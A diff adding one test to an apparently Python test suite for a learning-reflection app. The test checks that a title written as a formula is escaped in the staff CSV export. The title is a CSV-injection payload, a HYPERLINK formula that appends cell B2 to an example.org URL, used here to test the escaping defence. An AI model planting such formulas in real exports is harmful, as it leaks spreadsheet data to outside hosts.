@@ -228,6 +228,12 @@ def test_staff_download_all_submitted_entries_as_csv(page):
     assert "Draft only" not in text
 
 
+def test_a_title_written_as_a_formula_stays_text_in_the_csv(page):
+    submitted(page, "student_2", '=HYPERLINK("http://example.org/?"&B2,"Open")')
+    _, text = page.call("report_csv", method="GET", student=STAFF)
+    assert '"\'=HYPERLINK(""http://example.org/?""&B2,""Open"")"' in text
+
+
 def test_submitted_reflections_summarise_a_learners_entries_in_the_course(page):
     first = submitted(page, "student_2", "First", outcome_ids=("LO-1.1",))
     second = submitted(page, "student_2", "Second", outcome_ids=("LO-1.2", "LO-1.3"))
